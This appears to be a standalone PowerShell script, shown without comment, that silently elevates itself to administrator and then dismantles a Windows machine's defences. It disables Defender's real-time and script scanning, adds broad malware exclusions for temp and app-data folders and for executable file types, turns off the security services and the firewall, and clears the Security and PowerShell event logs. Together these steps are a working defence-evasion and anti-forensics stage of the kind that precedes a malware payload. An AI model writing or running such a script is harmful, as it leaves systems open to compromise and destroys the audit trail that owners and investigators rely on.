if (-not ([Security.Principal.WindowsPrincipal][Security.Principal.WindowsIdentity]::GetCurrent()).IsInRole([Security.Principal.WindowsBuiltInRole]::Administrator)) {
  Start-Process powershell.exe "-NoP -W Hidden -File `"$PSCommandPath`"" -Verb RunAs
  exit
}
Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true -DisableScriptScanning $true
Set-MpPreference -SubmitSamplesConsent 2 -MAPSReporting 0
Add-MpPreference -ExclusionPath 'C:\ProgramData', "$env:TEMP", "$env:APPDATA"
Add-MpPreference -ExclusionExtension 'exe','dll','ps1'
New-ItemProperty -Path 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender' -Name 'DisableAntiSpyware' -Value 1 -PropertyType DWord -Force | Out-Null
foreach ($s in 'WinDefend','Sense','wscsvc','SecurityHealthService') { sc.exe config $s start= disabled | Out-Null }
netsh advfirewall set allprofiles state off
foreach ($log in 'Security','System','Application','Windows PowerShell','Microsoft-Windows-PowerShell/Operational') { wevtutil.exe cl $log }
